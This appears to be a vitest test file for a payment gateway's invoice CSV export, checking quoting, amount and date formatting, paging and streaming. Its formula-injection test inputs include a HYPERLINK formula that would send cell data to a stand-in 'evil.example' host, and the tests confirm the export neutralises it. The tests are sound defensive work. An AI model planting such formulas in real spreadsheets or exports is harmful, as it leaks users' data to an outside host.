import { formatDateTimeShort, formatMinorUnits, MAX_CURRENCY_DIMENSION } from '@paygate/domain';
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import fc from 'fast-check';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { type DatabaseHandle, queryRows } from '../../db/database.ts';
import { invoices, paymentMethods } from '../../db/schema.ts';
import { openTestDatabase, TEST_DATABASE_KINDS } from '../../db/testing/test-databases.ts';
import { seedReferenceData } from '../../seed/reference-data-seed.ts';
import { createTestMerchant } from '../../testing/test-app.ts';
import { createTestInvoice, createTestTerminal } from '../../testing/test-data.ts';
import { csvField, csvTextSql } from './csv-download.ts';
import {
  dateTimeTextSql,
  invoiceCsvHeaders,
  invoiceCsvPages,
  minorUnitsTextSql,
} from './invoice-csv-export.ts';

const INT64_MIN = -(2n ** 63n);
const INT64_MAX = 2n ** 63n - 1n;

/** Property runs per rule: each run is one query, on PostgreSQL a network round trip. */
const RUNS = 150;

/** A piece of the export as bytes (the export gives strings or UTF-8 bytes). */
const bytesOf = (piece: string | Uint8Array) =>
  typeof piece === 'string' ? Buffer.from(piece) : Buffer.from(piece);

const collect = async (pages: AsyncIterable<string | Uint8Array>) => {
  const pieces: Buffer[] = [];
  for await (const page of pages) pieces.push(bytesOf(page));
  return Buffer.concat(pieces).toString('utf8');
};

/** A text cell as a spreadsheet should read it: marked with a quote when it starts a formula. */
const shownAsText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** Merchant invoice ids of the paging test: quotes and commas, and formulas (OWASP). */
const merchantInvoiceIdOf = (index: number) =>
  ({ 4: 'order, with "quotes"', 6: '=1+2,"x"', 8: '+8' })[index] ?? `order-${index}`;

describe.each(TEST_DATABASE_KINDS)('Invoices.csv written by the database on %s', (kind) => {
  let handle: DatabaseHandle;
  const evaluate = async (expression: ReturnType<typeof sql>) => {
    const [row] = await queryRows<{ out: string }>(handle.db, sql`SELECT ${expression} AS out`);
    return row?.out;
  };

  beforeAll(async () => {
    handle = await openTestDatabase(kind);
    await seedReferenceData(handle.db);
  });
  afterAll(async () => handle?.close());

  it('quotes and neutralises text exactly as csvField does, for any text', async () => {
    // PostgreSQL text cannot hold U+0000 (the API refuses it before it gets here).
    const anyText = fc.string({ unit: 'grapheme' }).map((text) => text.replaceAll('\u0000', ''));
    // Text a spreadsheet would run as a formula, with quotes, commas and line breaks after it.
    const formulaLike = fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), anyText)
      .map(([first, rest]) => first + rest);
    await fc.assert(
      fc.asyncProperty(fc.oneof(anyText, formulaLike), async (text) => {
        expect(await evaluate(csvTextSql(sql`${text}::text`))).toBe(csvField(text, 'text'));
      }),
      { numRuns: RUNS },
    );
    expect(await evaluate(csvTextSql(sql`${'say "hi", then\r\ngo'}::text`))).toBe(
      '"say ""hi"", then\r\ngo"',
    );
    expect(await evaluate(csvTextSql(sql`NULL::text`))).toBe('');
    expect(await evaluate(csvTextSql(sql`''::text`))).toBe('');
    const neutralised: Array<[string, string]> = [
      [
        '=HYPERLINK("http://evil.example/?"&A2,"x")',
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"',
      ],
      ['+1+2', "'+1+2"],
      ['-2+3', "'-2+3"],
      ['@SUM(1)', "'@SUM(1)"],
      ['\t=1', "'\t=1"],
      ['\r=1', '"\'\r=1"'],
      ['a=1', 'a=1'],
    ];
    for (const [text, cell] of neutralised) {
      expect(await evaluate(csvTextSql(sql`${text}::text`))).toBe(cell);
      expect(csvField(text, 'text')).toBe(cell);
    }
  });

  it('writes amounts exactly as formatMinorUnits does, for any bigint and dimension', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.bigInt({ min: INT64_MIN, max: INT64_MAX }),
        fc.integer({ min: 0, max: MAX_CURRENCY_DIMENSION }),
        async (minor, dimension) => {
          expect(
            await evaluate(
              minorUnitsTextSql(sql`${String(minor)}::bigint`, sql`${dimension}::int`),
            ),
          ).toBe(formatMinorUnits(minor, dimension));
        },
      ),
      { numRuns: RUNS },
    );
    expect(await evaluate(minorUnitsTextSql(sql`-5::bigint`, sql`2`))).toBe('-0.05');
  });

  it('writes dates exactly as formatDateTimeShort does, in UTC', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.date({
          min: new Date('1970-01-01T00:00:00Z'),
          max: new Date('2200-12-31T23:59:59Z'),
          noInvalidDate: true,
        }),
        async (date) => {
          expect(await evaluate(dateTimeTextSql(sql`${date.toISOString()}::timestamptz`))).toBe(
            formatDateTimeShort(date),
          );
        },
      ),
      { numRuns: RUNS },
    );
  });

  it('pages through every match once, newest first, ties broken by id, filters kept', async () => {
    const merchant = await createTestMerchant(handle.db, 'CSV pages');
    const terminal = await createTestTerminal(handle.db, merchant.id, { name: 'Till, "north"' });
    const [method] = await handle.db
      .select()
      .from(paymentMethods)
      .where(eq(paymentMethods.code, 'HUMOUZS'));
    const base = Date.parse('2026-05-01T08:00:00.123456Z');
    const created: Array<Awaited<ReturnType<typeof createTestInvoice>>> = [];
    for (let index = 0; index < 23; index += 1) {
      created.push(
        await createTestInvoice(handle.db, terminal, {
          merchantInvoiceId: merchantInvoiceIdOf(index),
          providerInvoiceId: index % 2 === 0 ? `prov-${index}` : null,
          amount: BigInt((index + 1) * 1_001),
          fee: BigInt(index),
          status: index % 3 === 0 ? 'DONE' : 'NEW',
          customerExternalId: index === 9 ? '-9+1' : `customer-${index}`,
          customerFirstName: index === 5 ? 'Дилноза' : index === 10 ? '@SUM(1)' : '',
          customerLastName: index === 5 ? 'O‘ktamova\r\nline' : '',
          isTestProcessing: index === 7,
          paymentMethodId: index % 4 === 0 ? (method?.id ?? null) : null,
          // Groups of four share a microsecond: the cursor must break ties by id.
          createdAt: new Date(base + Math.floor(index / 4) * 60_000),
          statusDate: new Date(base + index * 1_000),
        }),
      );
    }
    const expectedRecord = (row: (typeof created)[number], withProvider: boolean) => [
      row.id,
      shownAsText(row.merchantInvoiceId),
      ...(withProvider ? [row.providerInvoiceId ?? ''] : []),
      formatDateTimeShort(row.createdAt),
      formatDateTimeShort(row.statusDate),
      row.flowType,
      row.status,
      formatMinorUnits(row.amount, 2),
      formatMinorUnits(row.fee, 2),
      'UZS',
      'Till, "north"',
      row.paymentMethodId === null ? '-' : (method?.name ?? ''),
      shownAsText(row.customerExternalId),
      shownAsText(`${row.customerFirstName} ${row.customerLastName}`.trim()),
      row.isTestProcessing ? 'yes' : 'no',
    ];
    const newestFirst = [...created].sort(
      (a, b) => b.createdAt.getTime() - a.createdAt.getTime() || (a.id < b.id ? 1 : -1),
    );

    for (const withProvider of [true, false]) {
      const options = { withProviderInvoiceId: withProvider };
      const where = eq(invoices.merchantId, merchant.id);
      const pieces: Buffer[] = [];
      for await (const piece of invoiceCsvPages(handle.db, where, options, {
        pageSize: 10,
        recordsPerPiece: 3,
      })) {
        pieces.push(bytesOf(piece));
      }
      // 23 records in pages of 10 (10, 10, 3); a page is handed out whole when it is smaller
      // than a chunk.
      expect(pieces.map((piece) => parse(piece).length)).toEqual([10, 10, 3]);
      const text = Buffer.concat(pieces).toString('utf8');
      expect(text.endsWith('\r\n')).toBe(true);
      expect(parse(text)).toEqual(newestFirst.map((row) => expectedRecord(row, withProvider)));
      expect(invoiceCsvHeaders(options)).toHaveLength(withProvider ? 15 : 14);

      // In chunks of 50 bytes: cut anywhere, within a record and within a character (the
      // Cyrillic and Uzbek names take two and three bytes), and still the same bytes.
      const small: Buffer[] = [];
      for await (const piece of invoiceCsvPages(handle.db, where, options, {
        pageSize: 10,
        recordsPerPiece: 3,
        chunkBytes: 50,
      })) {
        small.push(bytesOf(piece));
      }
      expect(small.every((piece) => piece.length <= 50)).toBe(true);
      expect(Buffer.concat(small).equals(Buffer.from(text))).toBe(true);
    }

    const done = await collect(
      invoiceCsvPages(
        handle.db,
        sql`${invoices.merchantId} = ${merchant.id} AND ${invoices.status} = 'DONE'`,
        { withProviderInvoiceId: false },
        { pageSize: 2, recordsPerPiece: 1 },
      ),
    );
    expect(parse(done).map((record: string[]) => record[1])).toEqual(
      newestFirst
        .filter((row) => row.status === 'DONE')
        .map((row) => shownAsText(row.merchantInvoiceId)),
    );
    expect(
      await collect(
        invoiceCsvPages(handle.db, eq(invoices.merchantId, -1), { withProviderInvoiceId: false }),
      ),
    ).toBe('');
  });

  it('reads one page ahead of the consumer at most, and nothing once it has left', async () => {
    const merchant = await createTestMerchant(handle.db, 'CSV reads ahead');
    const terminal = await createTestTerminal(handle.db, merchant.id);
    for (let index = 0; index < 9; index += 1) {
      await createTestInvoice(handle.db, terminal, { merchantInvoiceId: `ahead-${index}` });
    }
    // Both databases are reached through a node-postgres pool, and a page is one connection.
    const pool = (handle.db as unknown as { $client: unknown }).$client;
    if (!(pool instanceof pg.Pool)) throw new Error('the database has no node-postgres pool');
    const connect = vi.spyOn(pool, 'connect');
    const settle = () => new Promise((resolve) => setTimeout(resolve, 50));
    try {
      const pages = invoiceCsvPages(
        handle.db,
        eq(invoices.merchantId, merchant.id),
        { withProviderInvoiceId: false },
        { pageSize: 2, recordsPerPiece: 1 },
      );
      const first = await pages.next();
      expect(first.done).toBe(false);
      expect(parse(bytesOf(first.value as string | Uint8Array))).toHaveLength(2);
      // The first page, and the second read while the first is taken; then nothing while the
      // consumer takes nothing more.
      await settle();
      expect(connect).toHaveBeenCalledTimes(2);
      await pages.next();
      await settle();
      expect(connect).toHaveBeenCalledTimes(3);
      // The consumer leaves (the client went away): the page read ahead is the last one.
      await pages.return(undefined);
      await settle();
      expect(connect).toHaveBeenCalledTimes(3);
    } finally {
      connect.mockRestore();
    }
  });

  it('holds pages larger than its buffer: long text, cut into chunks inside characters', async () => {
    const merchant = await createTestMerchant(handle.db, 'CSV long text');
    const terminal = await createTestTerminal(handle.db, merchant.id);
    // Names of about 400 KB of UTF-8 each (two bytes a letter): a page of three outgrows the
    // first megabyte of the page buffer, and a 64 KB chunk ends inside a letter.
    const longNames = [0, 1, 2].map((index) => `${'Ж'.repeat(200_000)}-${index}`);
    for (const customerFirstName of longNames) {
      await createTestInvoice(handle.db, terminal, { customerFirstName, customerLastName: '' });
    }
    const pieces: Buffer[] = [];
    for await (const piece of invoiceCsvPages(
      handle.db,
      eq(invoices.merchantId, merchant.id),
      { withProviderInvoiceId: false },
      { pageSize: 3, recordsPerPiece: 1 },
    )) {
      pieces.push(bytesOf(piece));
    }
    expect(pieces.length).toBeGreaterThan(18);
    expect(pieces.every((piece) => piece.length <= 64 * 1024)).toBe(true);
    const records: string[][] = parse(Buffer.concat(pieces).toString('utf8'));
    // Owner name, the next to last column.
    expect(records.map((record) => record.at(-2)).sort()).toEqual(longNames);
  });
});
